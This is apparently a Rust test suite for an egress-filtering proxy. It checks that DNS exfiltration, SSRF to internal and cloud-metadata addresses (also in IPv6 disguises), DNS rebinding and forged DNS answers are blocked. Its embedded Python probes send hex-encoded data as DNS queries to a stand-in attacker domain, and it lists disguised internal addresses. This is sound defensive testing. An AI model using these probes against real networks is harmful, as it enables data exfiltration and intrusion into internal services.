//! Names and what they lead to: nothing is asked outside for what may not be reached, and an
//! answer that leads inside leads nowhere.

use aegis_world::{Answer, Records, Wrong};
use serde_json::json;

use super::{all_are, place, place_with};

/// How a question of any kind is put to a resolver, by hand.
const ASK: &str = r#"
def ask(name, kind, to=("127.0.0.1", 53), seconds=3):
    """How many answers there are, or what went wrong."""
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(seconds)
        try:
            line.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + question, to)
            told = line.recv(4096)
        except OSError as error: return type(error).__name__
    return f"{told[3] & 15} {struct.unpack('>H', told[6:8])[0]}"
"#;

#[test]
fn nothing_that_is_asked_for_leaves_before_something_granted_is_dialled() {
    let Some(place) = place() else { return };
    let web = place.world.web("20.0.0.1", 80);
    place.world.names().set_addresses("stolen.data.example.org", &["20.0.0.1"]);
    place.deploy("asker", json!([{"host": "*.example.org", "ports": [80]}]));
    let told = place.run(
        "asker",
        &(ASK.to_owned()
            + r#"
kinds = {"NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "CAA": 257}
result = {
    "denied": together(lambda number: ask(f"{number:x}" * 20 + ".secret.evil.io", 1), range(16, 48)),
    "kinds": together(lambda kind: ask("secret.example.org", kinds[kind]).split()[-1], kinds),
    "denied_kinds": together(lambda kind: ask("secret.evil.io", kinds[kind]).split()[-1], kinds),
    "granted": together(lambda number: ask(f"d{number}.secret.example.org", 1), range(8)),
    "tcp": raw(("127.0.0.1", 53), b"\0\x10", 2),
    "elsewhere": together(lambda to: ask("secret.example.org", 1, (to, 53), 1), ["8.8.8.8", "10.77.0.2", "20.0.0.1"]),
    "dot": tunnelled("dns.example.net:853"),
    "dot_address": raw(("8.8.8.8", 853), b"x", 2),
    "doh": tunnelled("dns.example.net:443"),
}
"#),
    );
    all_are(&told["denied"], &["3 0"]);
    all_are(&told["kinds"], &["0"]);
    all_are(&told["denied_kinds"], &["0"]);
    all_are(&told["granted"], &["0 1"]);
    assert!(told["tcp"].as_str().unwrap().starts_with("error: ConnectionRefused"), "{told}");
    all_are(&told["elsewhere"], &["OSError"]);
    assert!(told["dot_address"].as_str().unwrap().starts_with("error: OSError"), "{told}");
    assert_eq!((&told["dot"], &told["doh"]), (&json!("403 not_permitted"), &json!("403 not_permitted")));
    assert_eq!(place.world.names().queries(), vec![], "what is only asked for is not asked for outside");
    let refused = place.decisions_of("refused=true", 34);
    assert_eq!(refused.iter().filter(|record| record["manner"] == "name").count(), 32, "{refused:?}");
    // A grant for all names below a domain is one to tell its owner names; it is recorded.
    place.run("asker", "result = proxied('stolen.data.example.org')");
    assert_eq!((web.connections(), place.world.names().asked("stolen.data.example.org")), (1, 1));
    assert_eq!(place.decisions_of("host=stolen.data.example.org", 1)[0]["address"], "20.0.0.1");
}

/// Addresses that lead inside, plain and in disguise.
const INSIDE: &[&str] = &[
    "10.0.0.5",
    "172.16.0.1",
    "172.31.255.254",
    "192.168.0.1",
    "100.64.0.1",
    "127.0.0.1",
    "127.64.0.1",
    "0.0.0.0",
    "0.1.2.3",
    "169.254.169.254",
    "169.254.170.2",
    "169.254.170.23",
    "100.100.100.200",
    "168.63.129.16",
    "192.0.0.192",
    "169.254.1.1",
    "224.0.0.251",
    "240.0.0.1",
    "255.255.255.255",
    "192.0.2.1",
    "198.18.0.1",
    "::",
    "::1",
    "fe80::1",
    "fd12::1",
    "fd00:ec2::254",
    "fd20:ce::254",
    "ff02::1",
    "::ffff:10.0.0.5",
    "::ffff:127.0.0.1",
    "::ffff:169.254.169.254",
    "::10.0.0.5",
    "64:ff9b::10.0.0.5",
    "64:ff9b::169.254.169.254",
    "64:ff9b:1::10.0.0.5",
    "2002:a00:5::1",
    "2002:a9fe:a9fe::1",
    "2001::f5ff:fffa",
    "2600::5efe:a00:5",
    "2001:db8::1",
    "5f00::1",
    "10.77.0.1",
    "fd77::1",
    "10.77.0.2",
];

#[test]
fn an_answer_that_leads_inside_is_refused_and_nothing_is_dialled() {
    let Some(place) = place() else { return };
    let listening: Vec<_> =
        ["10.0.0.5", "169.254.169.254", "fd12::1", "100.64.0.1", "20.0.0.1"].map(|at| place.world.web(at, 80)).into();
    let names = place.world.names();
    let mut cases = Vec::new();
    for (number, address) in INSIDE.iter().enumerate() {
        names.set_addresses(&format!("n{number}.example.com"), &[address]);
        cases.push(format!("n{number}.example.com"));
    }
    for (name, addresses) in [
        ("first", &["10.0.0.5", "20.0.0.1"][..]),
        ("last", &["20.0.0.1", "20.0.0.2", "20.0.0.3", "20.0.0.4", "20.0.0.5", "169.254.169.254"]),
        ("own", &["20.0.0.1", "10.77.0.1"]),
    ] {
        names.set_addresses(&format!("{name}.example.com"), addresses);
        cases.push(format!("{name}.example.com"));
    }
    place.deploy("led", json!([{"host": "*.example.com", "ports": [80, 443]}]));
    let told = place.run(
        "led",
        &format!(
            r#"
names = {cases:?}
result = {{
    "http": together(proxied, names),
    "connect": together(lambda name: tunnelled(name + ":443"), names),
    "socks": together(lambda name: socks(3, name, 443), names),
    "direct": together(lambda name: raw((name, 443), b"x", half=False), names[:8]),
}}
"#
        ),
    );
    all_are(&told["http"], &["403 address", "403 own_address"]);
    all_are(&told["connect"], &["403 address", "403 own_address"]);
    all_are(&told["socks"], &["2"]);
    all_are(&told["direct"], &["", "error: ConnectionResetError [Errno 104] Connection reset by peer"]);
    assert!(listening.iter().all(|web| web.connections() == 0));
    for (name, address) in cases.iter().zip(INSIDE.iter().copied()).chain([(&cases[cases.len() - 1], "10.77.0.1")]) {
        let own = ["10.77.0.1", "fd77::1"].contains(&address);
        assert_eq!(told["http"][name], if own { "403 own_address" } else { "403 address" }, "{address}");
    }
    let refused = place.decisions_of("refused=true", 3 * cases.len());
    let has_address = |address: &str| refused.iter().any(|record| record["address"] == address);
    assert!(has_address("169.254.169.254") && has_address("10.77.0.1") && has_address("fd77::1"), "{refused:?}");
    assert!(refused.iter().all(|record| record["state"] == "refused" && record["allowed"] == false));
}

#[test]
fn a_name_that_changes_its_address_is_judged_at_each_dial_and_pinned_to_what_was_judged() {
    let Some(place) = place_with("connect_timeout_ms = 700") else { return };
    let (web, inside) = (place.world.web("20.0.0.1", 80), place.world.web("169.254.169.254", 80));
    let at = |address: &str| Answer::Records(Records::of(&[address]).ttl(0));
    let names = place.world.names();
    names.set_sequence(
        "rebinding.example.com",
        vec![at("20.0.0.1"), at("169.254.169.254"), at("20.0.0.1"), at("10.77.0.1")],
    );
    names.set("cname.example.com", Answer::Records(Records::alias("denied.example.net")));
    names.set_addresses("denied.example.net", &["20.0.0.1"]);
    names.set("inside.example.com", Answer::Records(Records::alias("metadata.google.internal")));
    names.set_addresses("metadata.google.internal", &["169.254.169.254"]);
    names.set("own.example.com", Answer::Records(Records::alias("here.example.net")));
    names.set_addresses("here.example.net", &["10.77.0.1"]);
    names.set("nowhere.example.com", Answer::Records(Records::alias("nowhere.example.net")));
    names.set("loop.example.com", Answer::Records(Records::alias("loop.example.com")));
    place.deploy("bound", json!([{"host": "*.example.com", "ports": [80]}]));
    let told = place.run(
        "bound",
        r#"
result = {
    "rebinding": [proxied("rebinding.example.com") for _ in range(4)],
    "names": [proxied(name + ".example.com") for name in ["cname", "inside", "own", "nowhere", "loop"]],
    "target": [proxied("denied.example.net"), proxied("metadata.google.internal")],
}
"#,
    );
    assert_eq!(told["rebinding"], json!(["200", "403 address", "200", "403 own_address"]));
    assert_eq!(names.asked("rebinding.example.com"), 4, "there is no look-up between the check and the dial");
    // Where a name leads to is for its owner to say, as long as it does not lead inside.
    assert_eq!(told["names"], json!(["200", "403 address", "403 own_address", "502", "502"]));
    assert_eq!(told["target"], json!(["403 not_permitted", "403 not_permitted"]));
    assert_eq!((web.connections(), inside.connections()), (3, 0));
    let refused = place.decisions_of("refused=true&host=rebinding.example.com", 2);
    assert_eq!(refused[1]["address"], "169.254.169.254", "{refused:?}");
}

#[test]
fn an_answer_that_nobody_may_believe_is_none() {
    let Some(place) = place_with("connect_timeout_ms = 700") else { return };
    let (web, forged) = (place.world.web("20.0.0.1", 80), place.world.web("20.0.0.66", 80));
    let names = place.world.names();
    let lie = || Records::of(&["20.0.0.66"]);
    for (name, answer) in [
        ("silent", Answer::Silent),
        ("other-id", Answer::Wrong(Wrong::OtherId, lie())),
        ("other-question", Answer::Wrong(Wrong::OtherQuestion, lie())),
        ("other-port", Answer::Wrong(Wrong::OtherPort, lie())),
        ("failure", Answer::Failure),
        ("none", Answer::Nxdomain),
        ("empty", Answer::Records(Records::new())),
    ] {
        names.set(&format!("{name}.example.com"), answer);
    }
    names.set("long.example.com", Answer::Truncated(Records::of(&["20.0.0.1"])));
    place.deploy("believer", json!([{"host": "*.example.com", "ports": [80]}]));
    let told = place.run(
        "believer",
        r#"
names = ["silent", "other-id", "other-question", "other-port", "failure", "none", "empty"]
begun = time.monotonic()
result = {"http": together(lambda name: proxied(name + ".example.com"), names), "seconds": time.monotonic() - begun, "long": proxied("long.example.com")}
"#,
    );
    all_are(&told["http"], &["502"]);
    assert_eq!(told["long"], "200");
    assert!(told["seconds"].as_f64().unwrap() < 3.0, "{told}");
    assert_eq!((web.connections(), forged.connections()), (1, 0));
    let failed = place.decisions_of("", 8);
    assert_eq!(failed.iter().filter(|record| record["state"] == "failed").count(), 7, "{failed:?}");
}
